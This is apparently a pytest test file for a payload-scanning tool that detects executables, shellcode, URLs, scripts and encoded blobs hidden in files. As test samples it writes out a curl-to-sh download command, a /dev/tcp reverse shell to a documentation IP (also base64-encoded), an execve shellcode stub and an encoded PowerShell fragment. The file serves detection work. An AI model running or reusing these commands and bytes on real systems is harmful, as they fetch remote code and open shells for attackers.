"""Tests for embedded payload hunting."""

import base64
import random

import pytest

from bytesentinel.config import AnalysisConfig
from bytesentinel.formats.magic import identify
from bytesentinel.scanner.cancellation import AnalysisCancelled, CancellationToken
from bytesentinel.scanner.payload_hunter import hunt_payloads, merge_hits, payload_risk
from bytesentinel.scanner.results import EmbeddedPayload, PayloadKind

EXECVE_STUB = b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e"


def _hunt(data, config=None):
    return hunt_payloads(data, identify(data), config)


def _by_kind(analysis, kind):
    return [p for p in analysis.payloads if p.kind == kind]


class _CountingToken(CancellationToken):
    """Token that counts how often it is checked."""

    def __init__(self):
        super().__init__()
        self.checks = 0

    def check(self):
        self.checks += 1
        super().check()


class TestExecutables:
    """Test embedded executable headers."""

    def test_pe_after_image(self, png_bytes, pe_bytes):
        """Test a validated PE header inside an image."""
        analysis = _hunt(png_bytes + pe_bytes)
        (hit,) = _by_kind(analysis, PayloadKind.EXECUTABLE)

        assert hit.offset == len(png_bytes)
        assert hit.length == len(pe_bytes)
        assert hit.confidence == 95
        assert analysis.overall_risk == 95

    def test_elf_after_image(self, png_bytes, elf_bytes):
        """Test a validated ELF header inside an image."""
        (hit,) = _by_kind(_hunt(png_bytes + elf_bytes), PayloadKind.EXECUTABLE)

        assert hit.offset == len(png_bytes)
        assert "ELF" in hit.description

    def test_outer_executable_not_reported(self, pe_bytes):
        """Test an executable is not its own embedded payload."""
        analysis = _hunt(pe_bytes)

        assert analysis.payloads == ()
        assert analysis.overall_risk == 0

    def test_bare_magic_ignored(self, png_bytes):
        """Test MZ bytes without a PE header are not an executable."""
        assert _by_kind(_hunt(png_bytes + b"MZ" + bytes(100)), PayloadKind.EXECUTABLE) == []


class TestTestPattern:
    """Test the antivirus test string."""

    def test_eicar(self, eicar_bytes):
        """Test EICAR is reported with full confidence."""
        analysis = _hunt(eicar_bytes)

        assert len(analysis.payloads) == 1
        assert analysis.payloads[0].kind == PayloadKind.KNOWN_TEST_PATTERN
        assert analysis.payloads[0].offset == 0
        assert analysis.overall_risk == 100

    def test_eicar_inside_archive(self, build_zip, eicar_bytes):
        """Test EICAR stored in an archive member."""
        data = build_zip([("readme.txt", eicar_bytes)])

        assert _by_kind(_hunt(data), PayloadKind.KNOWN_TEST_PATTERN)


class TestUrls:
    """Test URL hunting."""

    def test_ip_literal_in_image(self, png_bytes):
        """Test an IP-literal URL in a binary carrier scores highest."""
        (hit,) = _by_kind(_hunt(png_bytes + b" http://203.0.113.9/x.sh "), PayloadKind.URL)

        assert hit.confidence == 55
        assert "203.0.113.9" in hit.description

    def test_hostname_in_image(self, png_bytes):
        """Test a named host in a binary carrier."""
        (hit,) = _by_kind(_hunt(png_bytes + b" https://cdn.example.net/a "), PayloadKind.URL)

        assert hit.confidence == 40

    def test_link_in_text(self):
        """Test links in text are expected and score low."""
        (hit,) = _by_kind(_hunt(b"See https://example.com/docs for details.\n"), PayloadKind.URL)

        assert hit.confidence == 10

    def test_namespace_host_ignored(self):
        """Test XML namespace URLs are not links."""
        data = b'<svg xmlns="http://www.w3.org/2000/svg" width="4"></svg>'

        assert _by_kind(_hunt(data), PayloadKind.URL) == []


class TestShellCommands:
    """Test shell-command text."""

    def test_download_pipe_shell(self):
        """Test curl piped into sh, alongside its URL."""
        analysis = _hunt(b"curl http://203.0.113.9/i.sh | sh\n")
        (command,) = _by_kind(analysis, PayloadKind.SHELL_COMMAND)

        assert command.confidence == 70
        assert _by_kind(analysis, PayloadKind.URL)
        assert analysis.overall_risk == 75

    def test_reverse_shell(self, png_bytes):
        """Test a /dev/tcp reverse shell."""
        analysis = _hunt(png_bytes + b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")

        assert max(p.confidence for p in _by_kind(analysis, PayloadKind.SHELL_COMMAND)) == 75

    def test_plain_prose(self):
        """Test ordinary text mentioning commands is quiet."""
        data = b"Use the shell to list files, then remove the temporary ones.\n"

        assert _hunt(data).payloads == ()


class TestShellcode:
    """Test shellcode idioms."""

    def test_nop_sled(self, png_bytes):
        """Test a NOP sled leading into code."""
        data = png_bytes + b"\x90" * 32 + b"\xeb\x10" + bytes(16)
        (hit,) = _by_kind(_hunt(data), PayloadKind.SHELLCODE)

        assert hit.offset == len(png_bytes)
        assert hit.confidence == 70

    def test_nop_padding_without_code(self, png_bytes):
        """Test NOP runs followed by zeros are padding."""
        data = png_bytes + b"\x90" * 32 + bytes(16)

        assert _by_kind(_hunt(data), PayloadKind.SHELLCODE) == []

    def test_sled_in_executable_ignored(self, pe_bytes):
        """Test compiler padding in executables is not a sled."""
        data = pe_bytes[:0x200] + b"\x90" * 32 + b"\x55" + pe_bytes[0x221:]

        assert _by_kind(_hunt(data), PayloadKind.SHELLCODE) == []

    def test_known_prologue(self, png_bytes):
        """Test an execve stub."""
        (hit,) = _by_kind(_hunt(png_bytes + EXECVE_STUB), PayloadKind.SHELLCODE)

        assert hit.confidence == 85
        assert hit.length == len(EXECVE_STUB)


class TestScripts:
    """Test embedded script blocks."""

    def test_script_in_image(self, png_bytes):
        """Test a script element appended to an image."""
        data = png_bytes + b"<script>" + b"x" * 60 + b"</script>"
        (hit,) = _by_kind(_hunt(data), PayloadKind.SCRIPT)

        assert hit.confidence == 55

    def test_script_in_page_expected(self):
        """Test script elements are normal in HTML."""
        data = b"<html><body><script>" + b"x" * 60 + b"</script></body></html>"

        assert _by_kind(_hunt(data), PayloadKind.SCRIPT) == []

    def test_encoded_powershell_in_page(self):
        """Test encoded PowerShell is reported even in markup."""
        data = b"<html><body>powershell -nop -enc " + b"SQBFAFgA" * 6 + b"</body></html>"
        (hit,) = _by_kind(_hunt(data), PayloadKind.SCRIPT)

        assert hit.confidence == 80


class TestBase64:
    """Test base64 blob decoding."""

    def test_encoded_executable(self, pe_bytes):
        """Test base64 that decodes to a PE image."""
        data = b"blob = '" + base64.b64encode(pe_bytes) + b"'\n"
        (hit,) = _by_kind(_hunt(data), PayloadKind.BASE64_BLOB)

        assert hit.confidence == 90
        assert "PE" in hit.description

    def test_encoded_shell_command(self):
        """Test base64 that decodes to a reverse shell."""
        command = b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # reconnect every minute\n" * 2
        data = b"payload: " + base64.b64encode(command) + b"\n"
        (hit,) = _by_kind(_hunt(data), PayloadKind.BASE64_BLOB)

        assert hit.confidence == 70

    def test_opaque_base64_ignored(self):
        """Test base64 of random data is not a payload."""
        blob = base64.b64encode(random.Random(3).randbytes(600))
        data = b"thumbnail: " + blob + b"\n"

        assert _by_kind(_hunt(data), PayloadKind.BASE64_BLOB) == []


class TestMergeAndRisk:
    """Test hit merging, capping and the risk formula."""

    def test_touching_same_kind_merged(self):
        """Test adjacent hits of one kind become one."""
        hits = [
            EmbeddedPayload(PayloadKind.URL, 0, 10, 40, "a"),
            EmbeddedPayload(PayloadKind.URL, 10, 5, 55, "b"),
        ]
        (merged,) = merge_hits(hits)

        assert merged.offset == 0
        assert merged.length == 15
        assert merged.confidence == 55
        assert merged.description == "b"

    def test_different_kinds_kept(self):
        """Test overlapping hits of different kinds stay separate."""
        hits = [
            EmbeddedPayload(PayloadKind.URL, 0, 10, 40),
            EmbeddedPayload(PayloadKind.SHELL_COMMAND, 0, 20, 70),
        ]

        assert len(merge_hits(hits)) == 2

    def test_hits_capped_per_kind(self):
        """Test each kind keeps a bounded number of hits."""
        data = b"\n".join(b"https://mirror%d.example.net/pkg" % i for i in range(6))
        config = AnalysisConfig(max_hits_per_kind=2)

        assert len(_by_kind(_hunt(data, config), PayloadKind.URL)) == 2

    def test_match_flood_stops_at_limit(self):
        """Test a kind stops collecting once the match limit is reached."""
        data = b"http://a " * 200
        config = AnalysisConfig(max_pattern_matches=50, max_hits_per_kind=100)
        urls = _by_kind(_hunt(data, config), PayloadKind.URL)

        assert len(urls) == 50
        assert urls[-1].offset == 49 * 9

    def test_large_match_flood(self):
        """Test a buffer full of short URLs still yields the capped first hits."""
        data = b"http://a " * 200_000
        urls = _by_kind(_hunt(data), PayloadKind.URL)

        assert [u.offset for u in urls] == [i * 9 for i in range(16)]
        assert all(u.confidence == 10 for u in urls)

    def test_checks_cancellation_during_flood(self):
        """Test long match runs are interrupted by cancellation checks."""
        single = _CountingToken()
        flood = _CountingToken()
        hunt_payloads(b"http://a ", identify(b"http://a "), cancel=single)
        data = b"http://a " * 1024
        hunt_payloads(data, identify(data), cancel=flood)

        assert flood.checks - single.checks == 4

    def test_risk_formula(self):
        """Test highest confidence plus a bonus per extra kind."""
        payloads = [
            EmbeddedPayload(PayloadKind.URL, 0, 10, 40),
            EmbeddedPayload(PayloadKind.SHELL_COMMAND, 20, 10, 70),
            EmbeddedPayload(PayloadKind.SHELL_COMMAND, 40, 10, 65),
        ]

        assert payload_risk(payloads, 5) == 75
        assert payload_risk([], 5) == 0

    def test_risk_capped(self):
        """Test risk never exceeds 100."""
        payloads = [
            EmbeddedPayload(PayloadKind.KNOWN_TEST_PATTERN, 0, 68, 100),
            EmbeddedPayload(PayloadKind.URL, 80, 10, 40),
        ]

        assert payload_risk(payloads, 5) == 100

    def test_ordered_by_offset(self, png_bytes, pe_bytes):
        """Test hits are reported in buffer order."""
        data = png_bytes + EXECVE_STUB + pe_bytes + b" http://203.0.113.9/ "
        offsets = [p.offset for p in _hunt(data).payloads]

        assert offsets == sorted(offsets)
        assert len(offsets) == 3


class TestHuntPayloads:
    """Test hunter behavior."""

    def test_scan_extent(self, png_bytes, pe_bytes):
        """Test content past the scan limit is not searched."""
        config = AnalysisConfig(max_scan_bytes=len(png_bytes))

        assert _hunt(png_bytes + pe_bytes, config).payloads == ()

    def test_cancelled(self, png_bytes):
        """Test a cancelled token stops the hunter."""
        token = CancellationToken()
        token.cancel()

        with pytest.raises(AnalysisCancelled):
            hunt_payloads(png_bytes, identify(png_bytes), cancel=token)
